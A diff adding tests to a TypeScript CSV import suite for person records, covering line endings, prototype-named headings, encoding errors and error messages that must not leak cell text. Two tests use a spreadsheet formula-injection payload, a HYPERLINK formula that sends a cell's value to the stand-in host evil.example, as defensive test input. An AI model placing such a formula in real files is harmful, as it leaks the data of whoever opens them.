@@ -105,6 +105,57 @@ describe('importPersonsCsv', () => {
     expect(JSON.stringify(errors)).not.toMatch(/not-an-email|surprise|fr"/);
   });
 
+  it('reads LF, CRLF, CR and mixed line endings alike, also split across chunks, and keeps line breaks in quoted cells', async () => {
+    const rows = ['Ａ,a@example.com,,en', 'B,b@example.com,"1-2\r\n3",ja', 'C,c@example.com,,en'];
+    const header = 'name,email,postal_address,language';
+    for (const [label, text] of [
+      ['LF', `${header}\n${rows.join('\n')}\n`],
+      ['CRLF', `${header}\r\n${rows.join('\r\n')}\r\n`],
+      ['CR', `${header}\r${rows.join('\r')}`],
+      ['CRLF then LF', `${header}\r\n${rows[0]}\n${rows[1]}\r\n${rows[2]}`],
+      ['LF then CR', `${header}\n${rows[0]}\r${rows[1]}\n\n${rows[2]}\r\n`],
+    ] as const) {
+      for (const piece of [1, 7, 4096]) {
+        const { ref, errors } = await importPersonsCsv(csv(`\uFEFF${text}`, piece), deps, { caseId: 'c-eol', uploadId: upload() });
+        expect({ label, piece, errors }).toEqual({ label, piece, errors: [] });
+        const people = (await all(ref)).map((r) => r.person);
+        expect(people.map((p) => [p.name, p.language])).toEqual([
+          ['Ａ', 'en'],
+          ['B', 'ja'],
+          ['C', 'en'],
+        ]);
+        // Addresses are collapsed to one line as before; the quoted CRLF did not split the row.
+        expect(people[1]!.postalAddress).toBe('1-2 3');
+      }
+    }
+  });
+
+  it('stores formula-looking values as given (neutralised on CSV output, not on import)', async () => {
+    const text = [
+      'name,email,postal_address',
+      '"=HYPERLINK(""http://evil.example/?""&A1,""x"")",f1@example.com,',
+      '+81 Taro,f2@example.com,',
+      '-Hanako-,f3@example.com,',
+      '@SUM(1+1),f4@example.com,',
+      '"\tTab",f5@example.com,',
+      'Plain,,=1+2',
+    ].join('\n');
+    const { ref, errors } = await importPersonsCsv(csv(text), deps, { caseId: 'c', uploadId: upload() });
+    expect(errors).toEqual([]);
+    const people = (await all(ref)).map((r) => r.person);
+    expect(people.map((p) => p.name)).toEqual(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+81 Taro', '-Hanako-', '@SUM(1+1)', 'Tab', 'Plain']);
+    expect(people[5]!.postalAddress).toBe('=1+2');
+  });
+
+  it('treats headings named like Object.prototype members as unknown columns', async () => {
+    const { ref, errors } = await importPersonsCsv(csv('constructor,name,email,toString,__proto__\nx,A,a@example.com,y,z\n'), deps, {
+      caseId: 'c',
+      uploadId: upload(),
+    });
+    expect(errors).toEqual([]);
+    expect((await all(ref)).map((r) => r.person)).toMatchObject([{ name: 'A', email: 'a@example.com' }]);
+  });
+
   it('accepts legacy Japanese carrier addresses and full-width e-mail', async () => {
     const { ref, errors } = await importPersonsCsv(
       csv('name,email\nA,taro..yamada.@docomo.ne.jp\nB,ｈａｎａｋｏ＠ｅｘａｍｐｌｅ．ｊｐ\n'),
@@ -220,9 +271,112 @@ describe('importPersonsCsv', () => {
       await refused(csv(randomBytes(4096)), 'not_csv');
     });
 
+    // Each way the file's text can fail, with the rule and place the API hands on (422 persons_rejected: reason = code,
+    // then rule, row, line, column). `secret` is the cell text that must appear in neither message nor details: csv-parse's
+    // own errors quote it (INVALID_OPENING_QUOTE carries the field so far, the message repeats it).
+    const sjis = (s: string) => Buffer.from(s, 'latin1');
+    const fileCases: {
+      title: string;
+      input: string | Buffer;
+      code?: string;
+      want: { rule: string; row?: number; line?: number; column?: string };
+      secret?: string;
+    }[] = [
+      {
+        title: 'a stray quote inside a name (INVALID_OPENING_QUOTE, no CSV_ prefix)',
+        input: 'name,email\nA,a@example.com\n小林"秘密子",k@example.com\n',
+        want: { rule: 'invalid_quote', row: 3, line: 3, column: 'name' },
+        secret: '小林',
+      },
+      {
+        title: 'an unquoted formula with quotes',
+        input: 'name,email\n=HYPERLINK("http://evil.example/?"&A1;"x"),h@example.com\n',
+        want: { rule: 'invalid_quote', row: 2, line: 2, column: 'name' },
+        secret: 'HYPERLINK',
+      },
+      {
+        title: 'a quote in the e-mail column',
+        input: 'name,email\nA,himitsu"x@example.com\n',
+        want: { rule: 'invalid_quote', row: 2, column: 'email' },
+        secret: 'himitsu',
+      },
+      {
+        title: 'text after a closing quote',
+        input: 'name,email\n"山田 太郎" 秘密,a@example.com\n',
+        want: { rule: 'text_after_quote', row: 2, column: 'name' },
+        secret: '山田',
+      },
+      {
+        title: 'a quote never closed (row is where it opens)',
+        input: 'name,email\nA,a@example.com\n"秘密 次郎,b@example.com\nC,c@example.com\n',
+        want: { rule: 'unclosed_quote', row: 3, column: 'name' },
+        secret: '秘密',
+      },
+      {
+        title: 'rows counted as records when a quoted address holds line breaks',
+        input: 'name,postal_address\nA,"1-2-3\r\n秘匿町\r\nビル"\nB,x"秘匿y\n',
+        want: { rule: 'invalid_quote', row: 3, column: 'postal_address' },
+        secret: '秘匿',
+      },
+      {
+        title: 'Shift_JIS in a data row',
+        input: Buffer.concat([Buffer.from('name,email\nA,a@example.com\n'), sjis('\x8e\x52\x93\x63'), Buffer.from(',b@example.com\n')]),
+        want: { rule: 'encoding', row: 3, column: 'name' },
+      },
+      {
+        title: 'Shift_JIS in the header',
+        input: Buffer.concat([sjis('\x8e\x81\x96\xbc'), Buffer.from(',email\n')]),
+        want: { rule: 'encoding', row: 1 },
+      },
+      {
+        title: 'UTF-16LE with a byte order mark',
+        input: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('name,email\n秘密,a@example.com\n', 'utf16le')]),
+        want: { rule: 'encoding', row: 1, line: 1 },
+      },
+      {
+        title: 'UTF-16BE with a byte order mark',
+        input: Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('name,email\n', 'utf16le').swap16()]),
+        want: { rule: 'encoding', row: 1 },
+      },
+      {
+        title: 'UTF-16LE without a byte order mark (NUL bytes)',
+        input: Buffer.from('name,email\n秘密,a@example.com\n', 'utf16le'),
+        want: { rule: 'encoding', row: 1 },
+      },
+      {
+        title: 'a NUL character in a name',
+        input: 'name,email\n秘密\u0000子,a@example.com\n',
+        want: { rule: 'encoding', row: 2, column: 'name' },
+        secret: '秘密',
+      },
+      { title: 'only a byte order mark', input: '\uFEFF', want: { rule: 'empty' } },
+      { title: 'a column named twice', input: 'name,氏名,email\n', want: { rule: 'duplicate_column', row: 1 } },
+      {
+        title: 'a record far over the line limit',
+        input: `name,email\nA,a@example.com\n${'秘'.repeat(40_000)},b@example.com\n`,
+        code: 'line_too_long',
+        want: { rule: 'line_too_long', row: 3, line: 3, column: 'name' },
+        secret: '秘秘',
+      },
+    ];
+    for (const c of fileCases) {
+      it(`file rule: ${c.title}`, async () => {
+        const err = await refused(csv(c.input, 5), c.code ?? 'not_csv');
+        expect(err.details).toMatchObject(c.want);
+        if (c.want.line === undefined && c.want.rule === 'unclosed_quote') expect(err.details.line).toBeUndefined();
+        if (c.want.column === undefined) expect(err.details.column).toBeUndefined();
+        expect(err.cause).toBeUndefined();
+        if (c.secret) {
+          expect(err.message).not.toContain(c.secret);
+          expect(JSON.stringify(err.details)).not.toContain(c.secret);
+          expect(JSON.stringify(err)).not.toContain(c.secret);
+        }
+      });
+    }
+
     it('a line far beyond the limit', async () => {
       const err = await refused(csv(`name,email\n${'a'.repeat(100_000)},a@example.com\n`, 8192), 'line_too_long');
-      expect(err.details.line).toBe(2);
+      expect(err.details).toMatchObject({ line: 2, row: 2, rule: 'line_too_long', limit: 4096 });
     });
 
     it('an aborted upload keeps its own error', async () => {
